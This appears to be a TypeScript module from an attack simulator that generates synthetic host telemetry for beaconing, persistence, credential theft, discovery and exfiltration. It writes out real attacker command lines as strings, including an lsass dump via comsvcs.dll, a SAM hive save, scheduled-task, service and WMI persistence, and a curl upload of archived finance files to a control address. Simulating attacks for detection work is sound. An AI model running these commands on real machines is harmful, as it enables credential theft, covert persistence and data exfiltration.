import { HOUR, MINUTE, SECOND } from './clock.ts'
import type { Lure } from './attack-entry.ts'
import type { Process } from './machine.ts'
import type { Machine } from './machine.ts'
import type { World } from './world.ts'

const SYSTEM = 'C:\\Windows\\System32\\'
const POWERSHELL = `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`

/** The program calls home: one lookup, then a connection every few minutes. */
export function callHome(world: World, machine: Machine, process: Process, lure: Lure, at: number): void {
  machine.resolve(process, lure.controlDomain, lure.controlIp, at)
  const period = world.random.between(60, 240) * SECOND
  for (let beat = 0; beat < 8; beat++) {
    const jitter = world.random.between(-3000, 3000) * 1000
    machine.connect(process, lure.controlIp, 443, at + SECOND + beat * period + (beat === 0 ? 0 : jitter))
  }
}

export const PERSISTENCE = ['run-key', 'task', 'service', 'startup-folder', 'wmi'] as const

/** The program makes itself last. */
export function persist(world: World, machine: Machine, process: Process, at: number): void {
  const { random } = world
  const user = process.user
  if (!user) throw new Error('Persistence is made by somebody')
  const subject = { who: user, logonId: process.logonId }
  const kind = random.pick(PERSISTENCE)
  const label = `${random.pick(['Sync', 'Cloud', 'Print', 'Audio'])}${random.hex(4)}`
  const image = `C:\\ProgramData\\${label}.exe`
  machine.write(process, image, at, { sha256: world.hash() })
  if (kind === 'run-key')
    machine.setRegistry(
      process,
      `HKU\\${user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\${label}`,
      image,
      at + 2 * SECOND,
    )
  if (kind === 'task') {
    const command = `schtasks /create /tn \\${label} /tr ${image} /sc onlogon /f`
    const schtasks = machine.start(process, `${SYSTEM}schtasks.exe`, command, user, at + 2 * SECOND)
    machine.createTask(`\\${label}`, image, at + 3 * SECOND, subject, schtasks)
  }
  if (kind === 'service') {
    const command = `sc.exe create ${label} binPath= ${image} start= auto`
    const sc = machine.start(process, `${SYSTEM}sc.exe`, command, user, at + 2 * SECOND)
    machine.installService(label, image, at + 3 * SECOND, subject, sc)
  }
  if (kind === 'startup-folder') {
    const folder = `C:\\Users\\${user.sam}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\`
    machine.write(process, `${folder}${label}.exe`, at + 2 * SECOND, { sha256: world.hash() })
  }
  if (kind === 'wmi') {
    const command = `"${POWERSHELL}" -c "Set-WmiInstance -Namespace root/subscription -Class CommandLineEventConsumer -Arguments @{Name='${label}';CommandLineTemplate='${image}'}"`
    const shell = machine.start(process, POWERSHELL, command, user, at + 2 * SECOND)
    machine.subscribe(label, image, at + 5 * SECOND, shell)
  }
}

/** Credentials are read: memory of lsass, the registry hives, or a dump by the system's own library. */
export function stealCredentials(world: World, machine: Machine, process: Process, at: number): void {
  const { random } = world
  const kind = random.pick(['memory', 'comsvcs', 'hives'] as const)
  const user = process.user
  if (kind === 'memory' && machine.host.sensor === 'sysmon') {
    const tool = `C:\\Users\\Public\\${random.hex(5)}.exe`
    machine.write(process, tool, at, { sha256: world.hash() })
    const started = machine.start(process, tool, `${tool} -q`, user, at + 2 * SECOND)
    const trace =
      'C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00000190B2)'
    machine.readLsass(started, '0x1010', trace, at + 3 * SECOND)
    machine.end(started, at + 9 * SECOND)
  } else if (kind === 'hives') {
    const command = 'reg.exe save HKLM\\SAM C:\\Users\\Public\\s.hiv /y'
    const reg = machine.start(process, `${SYSTEM}reg.exe`, command, user, at + 2 * SECOND)
    machine.sayCredentialCommand(reg)
    machine.write(reg, 'C:\\Users\\Public\\s.hiv', at + 3 * SECOND, { sha256: world.hash() })
    machine.end(reg, at + 4 * SECOND)
  } else {
    const dump = `C:\\Users\\Public\\${random.hex(5)}.bin`
    const lsass = machine.system('lsass.exe')
    const command = `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsass.pid} ${dump} full`
    const tool = machine.start(process, `${SYSTEM}rundll32.exe`, command, user, at + 2 * SECOND)
    machine.sayCredentialCommand(tool)
    machine.write(tool, dump, at + 3 * SECOND, { sha256: world.hash() })
    const trace =
      'C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6f5f|C:\\Windows\\System32\\comsvcs.dll+1'
    machine.readLsass(tool, '0x1fffff', trace, at + 3 * SECOND)
    machine.end(tool, at + 6 * SECOND)
  }
}

/** What an intruder asks first. */
export function lookAround(machine: Machine, process: Process, at: number): void {
  for (const [index, command] of [
    'whoami /all',
    'net group "Domain Admins" /domain',
    'nltest /dclist:',
  ].entries()) {
    const image = `${SYSTEM}${command.split(' ')[0]}.exe`
    const started = machine.start(process, image, command, process.user, at + index * 8 * SECOND)
    machine.end(started, at + index * 8 * SECOND + 2 * SECOND)
  }
}

/** Files are packed and leave: a big transfer to an address of the attacker. */
export function exfiltrate(world: World, machine: Machine, process: Process, lure: Lure, at: number): void {
  const bundle = `C:\\ProgramData\\${world.random.hex(6)}.7z`
  const packer = machine.start(
    process,
    'C:\\ProgramData\\7za.exe',
    `7za.exe a -mhe ${bundle} D:\\Data\\Finance`,
    process.user,
    at,
  )
  machine.write(packer, bundle, at + 30 * SECOND, { sha256: world.hash() })
  machine.end(packer, at + MINUTE)
  const command = `curl.exe -T ${bundle} https://${lure.controlIp}/u`
  const curl = machine.start(process, `${SYSTEM}curl.exe`, command, process.user, at + 2 * MINUTE)
  machine.connect(curl, lure.controlIp, 443, at + 2 * MINUTE + SECOND)
  machine.sayOrderedTransfer(curl, `https://${lure.controlIp}/u`)
  machine.end(curl, at + HOUR / 4)
}
